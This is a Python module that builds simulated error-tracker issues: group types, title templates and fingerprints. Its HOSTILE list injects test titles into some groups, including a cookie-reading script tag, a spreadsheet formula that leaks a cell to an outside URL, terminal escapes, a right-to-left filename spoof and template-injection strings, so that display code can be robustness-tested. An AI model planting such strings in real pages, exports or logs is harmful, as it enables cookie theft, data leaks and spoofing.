"""What simulated issues are called: group types, titles, and a few titles that no display may trip over."""

import hashlib
from dataclasses import dataclass
from typing import Final

import numpy as np
import numpy.typing as npt

__all__ = ["HOSTILE", "TYPES", "GroupType", "Wording", "fingerprint_of", "is_hostile", "word"]

Floats = npt.NDArray[np.float64]


@dataclass(frozen=True, slots=True)
class GroupType:
    """A group type as the tracker numbers it, and its share among simulated groups.

    Args:
        id: the type id in occurrence records.
        slug: its name in the REST API.
        category: its category there.
        priority: 25 low, 50 medium, 75 high.
        level: level of its occurrences.
        escalates: whether limits are made for it at all.
        share: weight among simulated groups.
        titles: templates; ``{place}`` and ``{thing}`` are filled in.
    """

    id: int
    slug: str
    category: str
    priority: int
    level: str
    escalates: bool
    share: float
    titles: tuple[str, ...]


TYPES: Final = (
    GroupType(
        1,
        "error",
        "error",
        50,
        "error",
        True,
        0.62,
        (
            "KeyError: '{thing}'",
            "TypeError: '{thing}' is undefined in {place}",
            "ValueError: invalid literal for {thing}: ''",
            "ConnectionError: {place}: connection reset by peer",
            "TimeoutError: {thing} took longer than 30 s in {place}",
            'IntegrityError: duplicate key value violates unique constraint "{thing}_pkey"',
            "PermissionDenied: {thing} may not be read by {place}",
            "NullPointerException: {place}.{thing}",
            "HTTPError: 503 from upstream {thing}",
            "OperationalError: deadlock detected while updating {thing}",
        ),
    ),
    GroupType(1001, "performance_slow_db_query", "db_query", 25, "info", True, 0.05, ("Slow DB Query",)),
    GroupType(1006, "performance_n_plus_one_db_queries", "db_query", 25, "info", True, 0.08, ("N+1 Query",)),
    GroupType(
        1007, "performance_consecutive_db_queries", "db_query", 25, "info", True, 0.02, ("Consecutive DB Queries",)
    ),
    GroupType(1009, "performance_consecutive_http", "http_client", 25, "info", True, 0.04, ("Consecutive HTTP",)),
    GroupType(1010, "performance_n_plus_one_api_calls", "http_client", 25, "info", True, 0.05, ("N+1 API Call",)),
    GroupType(1015, "performance_large_http_payload", "http_client", 25, "info", True, 0.03, ("Large HTTP payload",)),
    GroupType(2007, "profile_regex_main_thread", "mobile", 25, "info", True, 0.02, ("Regex on Main Thread",)),
    GroupType(4001, "monitor_check_in_failure", "outage", 75, "error", True, 0.04, ("Monitor failure: {thing}",)),
    GroupType(5002, "replay_click_rage", "frontend", 50, "error", True, 0.02, ("Rage Click",)),
    GroupType(6001, "feedback", "feedback", 50, "info", False, 0.02, ("User Feedback",)),
    GroupType(
        7001, "uptime_domain_failure", "outage", 75, "error", False, 0.01, ("Downtime detected for {thing}.example",)
    ),
)
"""The types that simulated groups have; mostly errors and performance problems."""

_LEVELS: Final = ("error", "error", "error", "error", "warning", "fatal")

_PLACES: Final = (
    "shop.checkout",
    "shop.cart",
    "billing.invoices",
    "api.v2.orders",
    "search.suggest",
    "auth.session",
    "mobile.sync",
    "media.resize",
    "mail.digest",
    "admin.export",
)

_THINGS: Final = (
    "shipping_address",
    "invoice",
    "customer",
    "session_token",
    "thumbnail",
    "price_list",
    "locale",
    "webhook",
    "nightly-report",
    "coupon",
    "order_item",
    "device",
)

HOSTILE: Final = (
    "<script>alert(document.cookie)</script>",
    r"ZeroDivisionError: $\frac{1}{0}$ of $x_",
    '=HYPERLINK("https://example.com/?leak="&A1,"invoice")',
    "\x1b[31mred\x1b[0m\x07 and \x1b]0;title\x07",
    "TypeError: \u202egnp.exe\u202c in upload",
    "Error: " + "a very long message, " * 480,
    'Quote " backslash \\ comma, semicolon; tab\t pipe | and\nnewline',
    "{{ 7 * 7 }} {% raw %} %s %d {0} </td></table><!--",
    "Ünïcödé 🔥 e\u0301 中文 عربى \ufeff\u200b",
)
"""Titles that somebody else wrote: markup, mathtext, a formula, terminal escapes, right-to-left marks, great length,
separators, templates, letters beyond ASCII. Every simulation of 40 groups or more has them all."""


@dataclass(frozen=True, slots=True)
class Wording:
    """The texts of all groups, in the order of the groups."""

    type_index: npt.NDArray[np.int64]
    title: list[str]
    subtitle: list[str]
    culprit: list[str]
    level: list[str]
    fingerprint: list[list[str]]


def word(project_id: npt.NDArray[np.int64], draws: Floats) -> Wording:
    """Word the groups.

    Args:
        project_id: of each group.
        draws: uniform in [0, 1), shape (groups, 5).
    """
    share = np.cumsum([kind.share for kind in TYPES])
    type_index = np.minimum(np.searchsorted(share / share[-1], draws[:, 0], side="right"), len(TYPES) - 1)
    place = [_PLACES[i] for i in (draws[:, 1] * len(_PLACES)).astype(int).tolist()]
    thing = [_THINGS[i] for i in (draws[:, 2] * len(_THINGS)).astype(int).tolist()]
    kinds = [TYPES[i] for i in type_index.tolist()]
    template = [kind.titles[int(u * len(kind.titles))] for kind, u in zip(kinds, draws[:, 3].tolist(), strict=True)]
    level = [
        _LEVELS[int(u * len(_LEVELS))] if kind.id == 1 else kind.level
        for kind, u in zip(kinds, draws[:, 4].tolist(), strict=True)
    ]
    title = [text.format(place=p, thing=t) for text, p, t in zip(template, place, thing, strict=True)]
    for at, text in zip(np.nonzero(is_hostile(len(title)))[0].tolist(), HOSTILE, strict=False):
        title[at] = text
    return Wording(
        type_index=type_index.astype(np.int64),
        title=title,
        subtitle=[f"{p} while handling {t}" for p, t in zip(place, thing, strict=True)],
        culprit=[f"{p} in handle_{t.replace('-', '_')}" for p, t in zip(place, thing, strict=True)],
        level=level,
        fingerprint=[
            fingerprint_of(project, number, parts=2 if number % 10 == 0 else 1)
            for number, project in enumerate(project_id.tolist())
        ],
    )


def is_hostile(groups: int) -> npt.NDArray[np.bool_]:
    """Which groups have a hostile title: every fourth of the first ones, until each title was used once.

    >>> is_hostile(10).nonzero()[0].tolist()
    [3, 7]
    """
    number = np.arange(groups)
    hostile: npt.NDArray[np.bool_] = (number % 4 == 3) & (number < 4 * len(HOSTILE))
    return hostile


def fingerprint_of(project_id: int, number: int, *, parts: int = 1) -> list[str]:
    """A fingerprint as the tracker stores it: each part as the hex of its MD5.

    >>> fingerprint_of(101, 0)
    ['d5e95d237e70e8bab538e166cb94f105']
    """
    raw = [f"simulated-{project_id}-{number}", "v2"][:parts]
    return [hashlib.md5(part.encode(), usedforsecurity=False).hexdigest() for part in raw]
